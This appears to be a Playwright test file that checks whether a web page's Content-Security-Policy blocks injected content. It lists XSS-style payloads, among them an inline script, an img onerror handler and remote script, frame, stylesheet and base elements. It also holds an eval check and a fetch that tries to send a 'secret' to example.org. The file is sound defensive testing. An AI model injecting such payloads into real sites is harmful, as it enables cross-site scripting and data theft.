"""What the page's Content-Security-Policy keeps out, should an escape ever fail."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page

from .conftest import Open
from .visit import Site

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("flagship")]

# What a hostile paper would try once it had become part of the page; each tells itself by `window.broken`.
ATTEMPTS = {
    "an inline script": "Object.assign(document.createElement('script'), {textContent: 'window.broken = 1'})",
    "an event handler": (
        "Object.assign(document.createElement('p'), {innerHTML: '<img src=x onerror=\"window.broken = 1\">'})"
    ),
    "a script from another host": (
        "Object.assign(document.createElement('script'), {src: 'https://example.org/x.js'})"
    ),
    "an image from another host": "Object.assign(new Image(), {src: 'https://example.org/x.png'})",
    "a frame": "Object.assign(document.createElement('iframe'), {src: 'https://example.org/'})",
    "a style sheet from another host": (
        "Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://example.org/x.css'})"
    ),
    "another base": "Object.assign(document.createElement('base'), {href: 'https://example.org/'})",
}
TRY = """
() => new Promise((done) => {
  document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
  document.body.append(MADE);
  setTimeout(() => done(window.broken ? "it ran" : "nothing stopped it"), 30_000);
})
"""

# Later, because what the test itself evaluates is exempt.
RUN = """
() => new Promise((done) => setTimeout(() => {
  try { done(new Function("return 1")()) } catch (error) { done(error.name) }
}))
"""


@pytest.fixture
def home(visit: Open, site: Site) -> Iterator[Page]:
    page = visit().page
    page.goto(site.url)
    yield page
    page.close()


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_it_is_kept_out(home: Page, attempt: str) -> None:
    stopped = home.evaluate(TRY.replace("MADE", ATTEMPTS[attempt]))
    assert stopped.split("-")[0] in {"script", "img", "frame", "style", "base"}


def test_text_is_never_run(home: Page) -> None:
    assert home.evaluate(RUN) == "EvalError"


def test_nothing_is_sent_elsewhere(home: Page) -> None:
    sent = "() => fetch('https://example.org/?secret').then(() => 'sent', () => 'kept')"
    assert home.evaluate(sent) == "kept"
